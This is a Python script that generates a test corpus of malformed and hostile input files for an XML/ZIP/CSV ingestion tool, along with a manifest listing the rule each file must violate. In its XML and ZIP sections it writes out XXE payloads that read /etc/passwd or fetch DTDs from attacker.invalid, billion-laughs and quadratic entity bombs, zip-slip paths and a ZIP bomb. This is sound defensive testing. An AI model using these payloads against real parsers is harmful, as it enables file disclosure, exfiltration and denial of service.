"""Generate the corpus of bad and hostile input files from the project's own sample generator.

Run from the repository root:  ``.venv/bin/python tests/corpus/make_corpus.py``

Every file is derived from a valid file that ``sample_data.bp.write_area`` (BP XML) or the committed
``sample_data/small/csv`` (CSV forms) produced, then broken in one way. The output is deterministic,
so re-running the script rewrites the same bytes. ``MANIFEST.toml`` lists, per file: the area it is
ingested for, the rule id that must appear in its rejection and why the file must be refused.

Files stay small (a few KiB): base documents are cut to two slots or one day, and the ZIP bomb
inflates to 20 MiB from about 20 KiB. The >10 MB text node is generated at test time instead
(``tests/test_corpus.py``), since committing it would defeat the point.
"""

from __future__ import annotations

import re
import shutil
import struct
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from pathlib import Path

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[1]
FILES = HERE / "files"
MONTH = date(2024, 4, 1)
ZIP_TIME = (2024, 5, 1, 3, 0, 0)  # fixed timestamps: the same script always writes the same bytes


@dataclass(frozen=True)
class Case:
    file: str
    area: str
    rule: str
    why: str


CASES: list[Case] = []


# ------------------------------------------------------------------------------------------ bases


@dataclass(frozen=True)
class Base:
    """A valid sample document, cut small, as text plus the encoding it is written in."""

    name: str  # file name as served (.zip)
    text: str
    encoding: str  # python codec ('utf-8' or 'cp932')

    def named(self, revision: int, suffix: str = ".xml") -> str:
        """The base name with another revision (so that every corpus file has its own name)."""
        stem = self.name.rsplit(".", 1)[0]
        if stem.startswith("W4"):
            stem = stem[:18] + f"{revision:02d}" + stem[20:]
        else:  # W5: W5 KKVV YYYYMMDD RR SSSSS
            stem = stem[:14] + f"{revision:02d}" + stem[16:]
        return stem + suffix

    def encoded(self, text: str | None = None) -> bytes:
        return (self.text if text is None else text).encode(self.encoding)


def _xml_of(path: Path) -> bytes:
    with zipfile.ZipFile(path) as zf:
        return zf.read(zf.infolist()[0])


def _decode(data: bytes) -> tuple[str, str]:
    head = data[:100]
    codec = "cp932" if b"Shift_JIS" in head else "utf-8"
    return data.decode(codec), codec


def _cut_w4(text: str, slots: int = 2) -> str:
    """Keep the first ``slots`` slot records of a per-day file."""
    ends = [m.end() for m in re.finditer(r"</JPMR00010>", text)]
    return text[: ends[slots - 1]] + text[ends[-1] :]


def _cut_w5(text: str) -> str:
    """Keep the first point record and its first day of a monthly file."""
    first_day_end = text.index("</JPMR00013>") + len("</JPMR00013>")
    days_end = text.index("</JPM00013>", first_day_end)
    text = text[:first_day_end] + text[days_end:]
    first_point_end = text.index("</JPMR00010>") + len("</JPMR00010>")
    points_end = text.index("</JPM00010>", first_point_end)
    return text[:first_point_end] + "\n" + text[points_end:]


def make_bases(work: Path) -> dict[str, Base]:
    from sample_data.bp import write_area

    bases: dict[str, Base] = {}
    for area in ("01", "03", "08"):  # 01: UTF-8, no namespace; 03: default namespace; 08: Shift_JIS
        write_area(work / area, area, MONTH, seed=1, low_points=2, high_points=1)
        daily = work / area / "W41120202404020000000000.zip"
        text, codec = _decode(_xml_of(daily))
        bases[f"w4_{area}"] = Base(daily.name, _cut_w4(text), codec)
    monthly = work / "01" / "W51220202405010000000.zip"
    text, codec = _decode(_xml_of(monthly))
    bases["w5_01"] = Base(monthly.name, _cut_w5(text), codec)
    cut = work / "01" / "W51320202404150000000.zip"
    text, codec = _decode(_xml_of(cut))
    bases["w5cut_01"] = Base(cut.name, _cut_w5(text), codec)
    return bases


# ----------------------------------------------------------------------------------------- writers


def add(file: str, data: bytes, area: str, rule: str, why: str) -> None:
    (FILES / file).write_bytes(data)
    CASES.append(Case(file, area, rule, why))


def zip_bytes(entries: list[tuple[str, bytes]], *, encrypted: bool = False) -> bytes:
    """A ZIP with the given (entry name, data) pairs, deflated, with fixed timestamps."""
    path = FILES / ".tmp.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    packed = bytearray(path.read_bytes())
    path.unlink()
    if encrypted:  # zipfile cannot encrypt: set the 'encrypted' flag bit in both headers (what a reader checks)
        for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = packed.index(sig)
            struct.pack_into("<H", packed, at + offset, struct.unpack_from("<H", packed, at + offset)[0] | 0x1)
    return bytes(packed)


def sub1(text: str, pattern: str, repl: str) -> str:
    """``re.sub`` exactly once; fail loudly when the sample changed and the pattern is gone."""
    out, n = re.subn(pattern, repl, text, count=1)
    if n != 1:
        raise SystemExit(f"pattern {pattern!r} not found in the base document")
    return out


def after_decl(text: str, insert: str) -> str:
    """Insert ``insert`` right after the XML declaration."""
    end = text.index("?>") + 2
    return text[:end] + "\n" + insert + text[end:]


# ------------------------------------------------------------------------------------------ cases


def xml_attacks(b: Base) -> None:
    """XXE, external DTDs and entity expansion: a DOCTYPE never reaches libxml2 (BP005)."""
    body = b.text
    xxe = after_decl(body, '<!DOCTYPE SBD-MSG [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
    xxe = sub1(xxe, r"<JP06120>[^<]*</JP06120>", "<JP06120>&xxe;</JP06120>")
    add(b.named(10), b.encoded(xxe), "01", "BP005", "XXE: external entity reading file:///etc/passwd")
    ext = after_decl(body, '<!DOCTYPE SBD-MSG SYSTEM "http://attacker.invalid/bp.dtd">')
    add(b.named(11), b.encoded(ext), "01", "BP005", "external DTD fetched over the network")
    pe = after_decl(body, '<!DOCTYPE SBD-MSG [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>')
    add(b.named(12), b.encoded(pe), "01", "BP005", "parameter-entity XXE (out-of-band exfiltration)")
    lol = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    laughs = after_decl(body, f'<!DOCTYPE SBD-MSG [<!ENTITY lol0 "lol">{lol}]>')
    laughs = sub1(laughs, r"<JP06120>[^<]*</JP06120>", "<JP06120>&lol9;</JP06120>")
    add(b.named(13), b.encoded(laughs), "01", "BP005", "billion laughs: nested entity expansion to ~3 GB")
    quad = after_decl(body, f'<!DOCTYPE SBD-MSG [<!ENTITY a "{"x" * 5000}">]>')
    quad = sub1(quad, r"<JP06120>[^<]*</JP06120>", "<JP06120>" + "&a;" * 500 + "</JP06120>")
    add(b.named(14), b.encoded(quad), "01", "BP005", "quadratic blowup: one large entity referenced many times")
    hidden = after_decl(body, '<!-- a comment first --><?pi before?>\n<!DOCTYPE SBD-MSG [<!ENTITY x "y">]>')
    add(b.named(15), b.encoded(hidden), "01", "BP005", "DOCTYPE hidden behind a comment and a processing instruction")
    xinclude = sub1(
        body,
        r"<JP06120>[^<]*</JP06120>",
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    )
    add(b.named(16), b.encoded(xinclude), "01", "BP004", "XInclude of a local file (an element the XSD does not know)")


def well_formedness(b: Base) -> None:
    add(b.named(20), b"", "01", "BP003", "empty file")
    add(b.named(21), b"  \n\t\n", "01", "BP003", "whitespace only: no root element")
    data = b.encoded()
    add(b.named(22), data[: len(data) * 2 // 3], "01", "BP003", "truncated XML (the download broke off)")
    add(b.named(23), data[: data.index(b"</JPMR00011>") + 5], "01", "BP003", "truncated inside an end tag")
    nul = b.text.replace("<JP06122>0</JP06122>", "<JP06122>0\x00</JP06122>", 1)
    add(b.named(24), b.encoded(nul), "01", "BP003", "NUL byte inside the document")
    root = b.text.replace("<SBD-MSG", "<SBD-MSX", 1).replace("</SBD-MSG>", "</SBD-MSX>")
    add(b.named(25), b.encoded(root), "01", "BP013", "root element is not SBD-MSG")
    deep = sub1(b.text, r"<JP06120>[^<]*</JP06120>", "<JP06120>" + "<a>" * 300 + "</a>" * 300 + "</JP06120>")
    add(b.named(26), b.encoded(deep), "01", "BP004", "deeply nested unknown elements inside a text field")
    mism = sub1(b.text, r"</JPMR00011>", "</JPMR00012>")
    add(b.named(27), b.encoded(mism), "01", "BP003", "mismatched end tag")


def encodings(b01: Base, b08: Base) -> None:
    sjis_as_utf8 = b08.encoded().replace(b'encoding="Shift_JIS"', b'encoding="UTF-8"', 1)
    add(b08.named(30), sjis_as_utf8, "08", "BP006", "declares UTF-8 but the bytes are cp932 (Shift_JIS)")
    utf8_as_sjis = b01.text.replace('encoding="UTF-8"', 'encoding="Shift_JIS"', 1).encode("utf-8")
    utf8_as_sjis = utf8_as_sjis.replace(b"<JP06120>", b"<JP06120>\x82", 1)  # a lead byte without its trail byte
    add(b01.named(31), utf8_as_sjis, "01", "BP006", "declares Shift_JIS but holds bytes that do not decode as cp932")
    unknown = b01.text.replace('encoding="UTF-8"', 'encoding="x-takuso-unknown"', 1)
    add(b01.named(32), b01.encoded(unknown), "01", "BP006", "unknown encoding label in the declaration")
    bom = b"\xef\xbb\xbf" + b08.encoded()
    add(b08.named(33), bom, "08", "BP006", "UTF-8 byte-order mark in front of cp932 bytes (the BOM wins, R1)")
    utf16 = b01.text.replace('encoding="UTF-8"', 'encoding="UTF-16"', 1).encode("utf-8")
    add(b01.named(34), utf16, "01", "BP006", "declares UTF-16 without a BOM but the bytes are UTF-8")


def content(b01: Base, b03: Base, w5: Base, cut: Base) -> None:
    kind = b01.named(40).replace("W41120", "W40120", 1)  # the name says high voltage per-day, JP00002 says 1120
    add(kind, b01.encoded(), "01", "BP002", "kind in the file name (0120) differs from JP00002 (1120)")
    add(
        b01.named(41),
        b01.encoded(sub1(b01.text, r"<JP06219>0?1</JP06219>", "<JP06219>0</JP06219>")),
        "01",
        "BP004",
        "slot 0 (valid range 1..48, R4)",
    )
    add(
        b01.named(42),
        b01.encoded(sub1(b01.text, r"<JP06219>0?2</JP06219>", "<JP06219>49</JP06219>")),
        "01",
        "BP004",
        "slot 49 (valid range 1..48, R4)",
    )
    short = re.sub(r"<JP06400>(\d{21})\d</JP06400>", r"<JP06400>\1</JP06400>", b01.text, count=1)
    add(b01.named(43), b01.encoded(short), "01", "BP004", "supply point id of 21 digits (R8)")
    letters = re.sub(r"<JP06400>(\d{18})\d{4}</JP06400>", r"<JP06400>\1ABCD</JP06400>", b01.text, count=1)
    add(b01.named(44), b01.encoded(letters), "01", "BP004", "supply point id with letters (R8)")
    prefix = re.sub(r"<JP06400>\d\d(\d{20})</JP06400>", r"<JP06400>11\1</JP06400>", b01.text, count=1)
    add(b01.named(45), b01.encoded(prefix), "01", "BP004", "supply point id with prefix 11 (only 01..10 exist, R8)")
    first = re.search(r"<JPMR00011>.*?</JPMR00011>", b01.text)
    assert first is not None
    dup = b01.text.replace(first.group(0), first.group(0) + "\n" + first.group(0), 1)
    add(b01.named(46), b01.encoded(dup), "01", "BP010", "the same point twice in one slot (duplicate key, R4)")
    dup_slot = re.search(r"<JPMR00010>.*?</JPMR00010>", b01.text, re.S)
    assert dup_slot is not None
    twice = b01.text.replace(dup_slot.group(0), dup_slot.group(0) + "\n" + dup_slot.group(0), 1)
    add(b01.named(47), b01.encoded(twice), "01", "BP010", "the same slot record twice (duplicate keys, R4)")
    for rev, value, why in (
        (48, "12,5", "quantity with a decimal comma"),
        (49, "NaN", "quantity NaN (R5)"),
        (50, "1e3", "quantity in exponent notation (R5)"),
        (51, "一二", "quantity in kanji numerals (R5)"),
        (52, "1234567890123.1234567", "quantity that does not fit DECIMAL(18,6) (R5)"),
    ):
        bad = re.sub(r"<JP06125>[^<]*</JP06125>", f"<JP06125>{value}</JP06125>", b01.text, count=1)
        add(b01.named(rev), b01.encoded(bad), "01", "BP004", why)
    date_ = sub1(b01.text, r"<JP06116>\d{8}</JP06116>", "<JP06116>20240231</JP06116>")
    add(b01.named(53), b01.encoded(date_), "01", "BP009", "JP06116 target date 2024-02-31 is not a calendar date (R7)")
    unknown = sub1(b01.text, r"</JPMR00011>", "<JP99999>surprise</JP99999></JPMR00011>")
    add(b01.named(54), b01.encoded(unknown), "01", "BP004", "an element the XSD does not know (R3)")
    no_ids = re.sub(r"<JP06400>\d+</JP06400>", "", b01.text)
    add(b01.named(29), b01.encoded(no_ids), "01", "BP004", "no record carries a supply point id (found by fuzzing)")
    bad_uri = b03.text.replace('xmlns="urn:takuso:sample:bp"', 'xmlns="not a uri"', 1)
    add(
        b03.named(28),
        b03.encoded(bad_uri),
        "03",
        "BP003",
        "a default namespace that is not a valid URI (found by fuzzing)",
    )
    ns = b03.text.replace('xmlns="urn:takuso:sample:bp"', 'xmlns="urn:takuso:sample:bp" xmlns:e="urn:evil"', 1)
    ns = sub1(ns, r"</JPMR00011>", "<e:payload>x</e:payload></JPMR00011>")
    add(b03.named(55), b03.encoded(ns), "03", "BP004", "an element from a foreign namespace (default namespace file)")
    huge_name = sub1(b01.text, r"<JP06120>[^<]*</JP06120>", "<JP06120>" + "長" * 2000 + "</JP06120>")
    add(b01.named(56), b01.encoded(huge_name), "01", "BP004", "customer name of 2,000 characters (Text max 256)")
    # W5 monthly usage
    add(
        w5.named(57),
        w5.encoded(sub1(w5.text, r"<JP06219>0?1</JP06219>", "<JP06219>49</JP06219>")),
        "01",
        "BP004",
        "monthly confirmed usage with slot 49",
    )
    w5dup = re.search(r"<JPMR00013>.*?</JPMR00013>", w5.text, re.S)
    assert w5dup is not None
    add(
        w5.named(58),
        w5.encoded(w5.text.replace(w5dup.group(0), w5dup.group(0) * 2, 1)),
        "01",
        "BP010",
        "monthly confirmed usage with the same day twice for one point (duplicate slots)",
    )
    add(
        w5.named(59),
        w5.encoded(sub1(w5.text, r"<JP06423>\d{8}</JP06423>", "<JP06423>20240431</JP06423>")),
        "01",
        "BP009",
        "usage date 2024-04-31 is not a calendar date (R7)",
    )
    add(
        w5.named(60),
        w5.encoded(sub1(w5.text, r"<JP06426>[^<]*</JP06426>", "<JP06426>Infinity</JP06426>")),
        "01",
        "BP004",
        "monthly kWh Infinity (R5)",
    )
    add(
        cut.named(61),
        cut.encoded(sub1(cut.text, r"<JP06404>[^<]*</JP06404>", "")),
        "01",
        "BP011",
        "meter exchange (assumed layout, §7.2) whose point record lacks JP06404",
    )
    add(
        "W4112020240402000000.xml",
        b01.encoded(b01.text + "<!-- bad name -->\n"),
        "01",
        "BP001",
        "not a BP file name (the section is missing)",
    )


def zips(b01: Base) -> None:
    xml = b01.encoded()
    entry = b01.name.replace(".zip", ".xml")
    add(b01.named(70, ".zip"), zip_bytes([("../" + entry, xml)]), "01", "BP007", "ZIP entry with ../ (zip slip)")
    add(b01.named(71, ".zip"), zip_bytes([("/tmp/" + entry, xml)]), "01", "BP007", "ZIP entry with an absolute path")
    add(
        b01.named(72, ".zip"),
        zip_bytes([("..\\..\\" + entry, xml)]),
        "01",
        "BP007",
        "ZIP entry with Windows ..\\ path components",
    )
    add(b01.named(73, ".zip"), zip_bytes([("C:" + entry, xml)]), "01", "BP007", "ZIP entry with a drive letter")
    add(
        b01.named(74, ".zip"),
        zip_bytes([(entry, xml), ("W41120202404030000000000.xml", xml)]),
        "01",
        "BP007",
        "two XML entries in one ZIP (which one is the message?)",
    )
    add(b01.named(75, ".zip"), zip_bytes([]), "01", "BP007", "a ZIP without any entry")
    add(b01.named(76, ".zip"), zip_bytes([(entry, xml)], encrypted=True), "01", "BP007", "an encrypted ZIP entry")
    padded = xml.replace(b"</SBD-MSG>", b"<!--" + b" " * (20 << 20) + b"--></SBD-MSG>")
    add(
        b01.named(77, ".zip"),
        zip_bytes([(entry, padded)]),
        "01",
        "BP007",
        "ZIP bomb: 20 MiB from ~20 KiB (ratio >200:1)",
    )
    add(b01.named(78, ".zip"), b"this is not a zip archive\n", "01", "BP007", "a .zip that is not a ZIP archive")
    add(b01.named(79, ".zip"), b"PK\x03\x04", "01", "BP007", "a .zip of only the 4-byte ZIP signature")
    good = zip_bytes([(entry, xml)])
    add(b01.named(80, ".zip"), good[: len(good) // 2], "01", "BP007", "a truncated ZIP (no central directory)")
    add(b01.named(81, ".zip"), _lying_zip(entry, xml), "01", "BP007", "ZIP headers declare fewer bytes than the data")


def _lying_zip(entry: str, xml: bytes) -> bytes:
    """A ZIP whose headers claim the entry inflates to 100 bytes: the CRC then cannot match."""
    data = bytearray(zip_bytes([(entry, xml)]))
    local = data.index(b"PK\x03\x04")
    central = data.index(b"PK\x01\x02")
    struct.pack_into("<I", data, local + 22, 100)  # uncompressed size in the local header
    struct.pack_into("<I", data, central + 24, 100)  # ... and in the central directory
    return bytes(data)


# --------------------------------------------------------------------------------------------- CSV


def csv_cases() -> None:
    src = REPO / "sample_data" / "small" / "csv" / "02"
    demand = (src / "contract_demand_breakdown_02_202404.csv").read_text(encoding="utf-8-sig").splitlines()
    alloc = (src / "generator_allocated_energy_02_202404.csv").read_text(encoding="utf-8-sig").splitlines()
    demand = demand[:4]
    alloc = alloc[:3]

    def write(tag: str, form: str, lines: list[str], rule: str, why: str, *, raw: bytes | None = None) -> None:
        name = f"{tag}_{form}_02_202404.csv"
        data = raw if raw is not None else ("\ufeff" + "\n".join(lines) + "\n").encode("utf-8")
        add(name, data, "02", rule, why)

    cdb, gae = "contract_demand_breakdown", "generator_allocated_energy"
    header = demand[0].split(",")

    def without(column: str) -> list[str]:
        drop = header.index(column)
        return [",".join(c for i, c in enumerate(line.split(",")) if i != drop) for line in demand]

    write(
        "bad-missing-column", cdb, without("料金計算対象年月"), "CSV001", "required column 料金計算対象年月 is missing"
    )
    write(
        "bad-other-form-header",
        cdb,
        without("契約電力"),
        "CSV004",
        "without 契約電力 the header fits another form than the file name says",
    )
    quote = [demand[0], sub1(demand[1], r",(\d+),", r',"\1,'), *demand[2:]]
    write("bad-open-quote", cdb, quote, "CSV005", "a quote that is never closed (broken quoting)")
    stray = [demand[0], sub1(demand[1], "実量", '"実量"x'), *demand[2:]]
    write("bad-stray-quote", cdb, stray, "CSV005", "text after a closing quote")
    write(
        "bad-empty", cdb, [], "CSV001", "empty file (a BOM only): no header, so no required column", raw=b"\xef\xbb\xbf"
    )
    write(
        "bad-undecodable",
        cdb,
        [],
        "CSV003",
        "bytes that decode in no supported encoding",
        raw=b"\xff\xfe\x00\xd8" + bytes(range(128, 256)) * 4,
    )
    wide = [demand[0], demand[1] + ",extra,cells", *demand[2:]]
    write("bad-too-many-fields", cdb, wide, "CSV022", "a row with more fields than the header")
    first, rest = demand[1].split(",", 1)
    point = [demand[0], first[:-2] + "A" + first[-1] + "," + rest, *demand[2:]]
    write("bad-point-id", cdb, point, "CSV010", "supply point id with a letter")
    number = [demand[0], sub1(demand[1], r",(\d)\d(\d),", r",\1八\2,"), *demand[2:]]
    write("bad-number", cdb, number, "CSV014", "max demand is not a number")
    dup = [demand[0], demand[1], demand[1], *demand[2:]]
    write("bad-duplicate-key", cdb, dup, "CSV020", "the same point and look-back month twice")
    slot_hdr = sub1(alloc[0], "kwh_0000_0030", "kwh_2400_2430")
    write("bad-slot-49", gae, [slot_hdr, *alloc[1:]], "CSV016", "a 49th slot column (24:00-24:30)")
    nan = [alloc[0], sub1(alloc[1], r",\d+\.\d+,", ",NaN,"), *alloc[2:]]
    write("bad-nan", gae, nan, "CSV014", "kWh NaN")


# ------------------------------------------------------------------------------------------ main


def write_manifest() -> None:
    lines = [
        "# Bad and hostile inputs. Generated by tests/corpus/make_corpus.py; do not edit by hand.",
        "# Each case: the file under files/, the area it is ingested for, the rule id its rejection must",
        "# name, and why it must be refused. tests/test_corpus.py ingests them all with good files.",
        "",
    ]
    for c in CASES:
        why = c.why.replace("\\", "\\\\").replace('"', '\\"')
        lines += ["[[case]]", f'file = "{c.file}"', f'area = "{c.area}"', f'rule = "{c.rule}"', f'why = "{why}"', ""]
    (HERE / "MANIFEST.toml").write_text("\n".join(lines), encoding="utf-8")


def main() -> None:
    import sys

    sys.path.insert(0, str(REPO))
    shutil.rmtree(FILES, ignore_errors=True)
    FILES.mkdir(parents=True)
    with tempfile.TemporaryDirectory() as tmp:
        bases = make_bases(Path(tmp))
    steps: list[Callable[[], None]] = [
        lambda: xml_attacks(bases["w4_01"]),
        lambda: well_formedness(bases["w4_01"]),
        lambda: encodings(bases["w4_01"], bases["w4_08"]),
        lambda: content(bases["w4_01"], bases["w4_03"], bases["w5_01"], bases["w5cut_01"]),
        lambda: zips(bases["w4_01"]),
        csv_cases,
    ]
    for step in steps:
        step()
    names = [c.file for c in CASES]
    if len(names) != len(set(names)):
        raise SystemExit("two corpus cases share a file name")
    contents = {(FILES / n).read_bytes() for n in names}
    if len(contents) != len(names):  # the same bytes twice in one batch would be decided once
        raise SystemExit("two corpus cases have the same content")
    write_manifest()
    print(f"{len(CASES)} files in {FILES.relative_to(REPO)}; manifest {HERE.name}/MANIFEST.toml")


if __name__ == "__main__":
    main()
